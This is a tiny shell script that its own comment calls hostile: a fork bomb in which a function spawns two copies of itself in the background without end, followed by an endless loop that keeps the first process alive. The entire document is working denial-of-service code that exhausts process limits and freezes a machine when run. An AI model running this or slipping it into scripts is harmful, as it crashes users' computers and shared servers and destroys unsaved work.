# Hostile: a fork bomb. Every copy starts two more, forever, and the first
# one stays to watch.
bomb() { bomb | bomb & }
bomb
while :; do sleep 1 2>/dev/null || :; done
